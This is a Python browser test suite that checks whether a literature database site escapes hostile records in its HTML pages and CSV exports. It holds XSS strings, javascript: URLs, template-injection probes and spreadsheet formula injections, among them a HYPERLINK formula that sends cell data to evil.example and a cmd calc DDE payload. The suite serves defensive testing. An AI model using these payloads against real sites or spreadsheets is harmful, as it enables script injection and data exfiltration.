"""Records written to do harm, in a real browser: nothing runs, nothing is asked for elsewhere, nothing pops up."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from db.export.formulas import DANGEROUS, NUMBER
from db.export.registry import FORMATS
from db.record import Abstract, Author, Flag, Keywords, Section, Source, Title
from db.site.links import article_path
from tests.db.site.browser.conftest import CHROMIUM, serving
from tests.db.site.conftest import Open, Site
from tests.db.site.shelf import ARTICLES, HOSTILE
from tests.db.site.walk import tables

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVIL = "</script><script>document.title='evil'</script><img src=https://evil.example/x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
NASTY = replace(
    HOSTILE,
    url="https://evil.example/'\"><script>alert(2)</script>?{{7*7}}",
    native_id="NASTY-1",
    doi="10.5555/\"onmouseover=alert(3)'",
    journal="{{ 7*7 }}{% raw %}" + EVIL,
    article_type="\u202egnp.exe\u202c 😀",
    license="javascript:alert(4)",
    volume="=1+1",
    issue="@SUM(1)",
    pages="-2+3",
    titles=(
        Title("en", f"{FORMULA} nasty {EVIL}"),
        Title("es", f"\u202e+cmd|' /C calc'!A0 nasty\r\n😀 {EVIL} \u2028 ]]>"),
    ),
    abstracts=(
        Abstract("en", (Section("-Aim", None, f"\t=1+1 nasty {EVIL} {{{{ config }}}}"), Section(EVIL, None, EVIL))),
        Abstract("es", (Section(None, None, f"@x nasty <!-- {EVIL} <style>*{{display:none}}</style>"),)),
        Abstract("pt", (Section(None, None, EVIL),)),
    ),
    keywords=(
        Keywords("en", (EVIL, "javascript:alert(5)", FORMULA)),
        Keywords("es", ('"><base href=//evil.example>',)),
    ),
    affiliations=(EVIL, "+1"),
    authors=(Author(f"O'Brien\" onclick=alert(6) {EVIL}", (0, 1)), Author("\u202eaéb", (0,))),
    flags=(Flag("noise_suspected", EVIL),),
    sources=(Source("title", "generic", EVIL, 0.5, "en", EVIL),),
)  # fmt: skip
FORMULAS = quote("select '=1+1' as '=cmd()', '\t=x' as b")
ROWS = quote("select id as work_id, title_en, title_es, abstract_en, keywords_en, authors, url, journal from works")


@pytest.fixture(scope="module")
def nasty(open_site: Open) -> Site:
    return open_site(NASTY, HOSTILE, *ARTICLES)


@pytest.fixture(scope="module")
def paths(nasty: Site) -> list[str]:
    """Every page that shows the records; asked for before the browser is there, which brings an event loop."""
    searches = [f"/search{form}?q={quote(words)}" for words in ("nasty", EVIL, FORMULA) for form in ("", ".json")]
    found = ["/", article_path(NASTY.id), article_path(HOSTILE.id), "/literature", *searches, *tables(nasty)]
    found.append(f"/literature/editions/{quote(NASTY.id)}")
    found += [f"/literature/bilingual?_facet=title_en&_search=nasty&_where={quote(chr(39) + '<b>' + chr(39) + '<>1')}"]
    return [*found, f"/literature?sql={ROWS}", f"/literature.json?sql={ROWS}", "/literature/bilingual.csv?_size=9"]


@pytest.fixture(scope="module")
def address(nasty: Site, paths: list[str]) -> Iterator[str]:  # noqa: ARG001  # known first
    with serving(nasty) as where:
        yield where


def test_files_are_saved_and_not_shown(nasty: Site) -> None:
    for form in FORMATS:
        if form != "parquet":
            answer = nasty.get(f"/literature/bilingual.{form}")
            assert answer.headers["content-disposition"].startswith("attachment")
            assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "path",
    [
        "/literature/bilingual.csv",
        "/literature/bilingual.csv?_stream=on",
        "/literature/bilingual.csv?_stream=on&_size=max&_dl=1",
        "/literature/works.csv?_labels=on&_size=1",
        "/literature/texts.csv",
        "/literature/both_abstracts.csv",
        f"/literature.csv?sql={ROWS}",
        f"/literature.csv?sql={ROWS}&_header=off",
        f"/literature.csv?sql={FORMULAS}",
        f"/literature/editions/{quote(NASTY.id)}.csv",
    ],
)
def test_no_way_to_csv_gives_a_formula(nasty: Site, path: str) -> None:
    answer = nasty.get(path)
    if "editions/" in path:  # Datasette has no CSV of a single row
        assert answer.status_code != 200 or not answer.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
    assert len(cells) > 1
    assert [cell for cell in cells if DANGEROUS.match(cell) and not NUMBER.fullmatch(cell)] == []


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM, reason="no Chromium here: apt-get install chromium")
def test_nothing_runs_anywhere(paths: list[str], page: Page) -> None:
    for path in paths:
        answer = page.goto(path)
        assert answer, path
        assert answer.status == 200, path
        assert page.title() != "evil", path
        if answer.headers["content-type"].startswith("text/html"):
            assert page.locator("main").is_visible(), path
            assert page.locator("script, iframe, svg, img, base, body style, [onclick], [onmouseover]").count() == 0, (
                path
            )
            assert page.locator("a[href^='javascript:' i]").count() == 0, path
            assert "49" not in page.locator("article .where").all_inner_texts(), path
